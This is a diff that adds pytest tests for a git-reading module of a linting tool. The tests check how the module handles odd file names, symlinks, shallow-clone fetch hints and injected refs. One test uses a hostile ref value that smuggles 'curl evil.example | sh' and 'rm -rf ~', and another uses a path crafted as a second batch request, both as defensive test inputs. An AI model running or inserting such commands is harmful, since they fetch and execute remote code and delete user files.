@@ -1,0 +1,95 @@
+"""Reading v1 from git: immune to any byte in a file name; hints that work in shallow clones."""
+
+from __future__ import annotations
+
+import shlex
+import subprocess
+
+import pytest
+
+from canary_lint.gitio import BaseTree, GitError, git
+
+from conftest import run_cli
+
+ODD_NAMES = ["new\nline.py", "tab\there.py", 'quote"d.py', "it's.py", "sp ace.py"]
+
+
+def _commit_files(repo, files: dict[str, bytes]) -> None:
+    for name, data in files.items():
+        path = repo / name.encode("utf-8", "surrogateescape").decode("utf-8", "surrogateescape")
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(data)
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", "v1")
+
+
+def test_no_byte_in_a_path_shifts_later_reads(tmp_path):
+    git(tmp_path, "init", "-q", "-b", "main")
+    files = {name: f"# {i}\n".encode() for i, name in enumerate(ODD_NAMES)}
+    files["a.py"] = b"# a\n"
+    files["zz.py"] = b"# zz\n"
+    try:
+        (tmp_path / "\udcff-bytes.py").write_bytes(b"# non-utf8\n")
+    except (UnicodeEncodeError, OSError):
+        pass  # a file system that refuses non-UTF-8 names
+    _commit_files(tmp_path, files)
+    base = BaseTree("main", tmp_path)
+    try:
+        for name, data in files.items():
+            assert base.read_bytes(name) == data, name
+        # a path crafted as a second batch request reads nothing, and the next read is still right
+        assert base.read_bytes("a.py\nHEAD:zz.py") is None
+        assert base.read_bytes("zz.py") == b"# zz\n"
+        if (tmp_path / "\udcff-bytes.py").exists():
+            assert base.read_bytes("\udcff-bytes.py") == b"# non-utf8\n"
+        assert base.blob_id("a.py") and base.blob_id("missing.py") is None
+    finally:
+        base.close()
+
+
+def test_base_symlink_is_not_a_file_of_v1(tmp_path):
+    git(tmp_path, "init", "-q", "-b", "main")
+    (tmp_path / "link.py").symlink_to("/etc/hostname")
+    _commit_files(tmp_path, {"a.py": b"x = 1\n"})
+    base = BaseTree("main", tmp_path)
+    try:
+        assert base.read_bytes("link.py") is None
+        assert "link.py" not in base.paths()
+    finally:
+        base.close()
+
+
+def _origin_and_shallow_clone(tmp_path, **clone_args):
+    origin = tmp_path / "origin"
+    origin.mkdir()
+    git(origin, "init", "-q", "-b", "main")
+    _commit_files(origin, {"app.py": b"x = 1\n"})
+    git(origin, "tag", "v1.2")
+    git(origin, "branch", "release")
+    (origin / "app.py").write_text("x = 2\n")
+    git(origin, "commit", "-qam", "v2")
+    clone = tmp_path / "clone"
+    git(tmp_path, "clone", "-q", "--depth=1", "--single-branch", "--no-tags", f"file://{origin}", str(clone))
+    return clone
+
+
+@pytest.mark.parametrize("ref", ["v1.2", "origin/release", "release"])
+def test_the_fetch_hint_makes_the_ref_exist(tmp_path, ref):
+    clone = _origin_and_shallow_clone(tmp_path)
+    proc = run_cli("check", "--base", ref, cwd=clone)
+    assert proc.returncode == 2
+    line = proc.stderr.strip().splitlines()[-1]
+    command = line.split("`")[1]
+    subprocess.run(shlex.split(command), cwd=clone, check=True, capture_output=True)
+    proc = run_cli("check", "--base", ref, cwd=clone)
+    assert proc.returncode in (0, 1), proc.stderr
+
+
+def test_a_hostile_ref_is_quoted_on_one_line(tmp_path):
+    git(tmp_path, "init", "-q", "-b", "main")
+    _commit_files(tmp_path, {"a.py": b"x = 1\n"})
+    with pytest.raises(GitError) as err:
+        BaseTree("1x; curl evil.example | sh\nrm -rf ~", tmp_path)
+    message = str(err.value)
+    assert "\n" not in message
+    assert "'+refs/tags/1x; curl evil.example | sh\\nrm -rf ~:refs/tags/1x; curl evil.example | sh\\nrm -rf ~'" in message
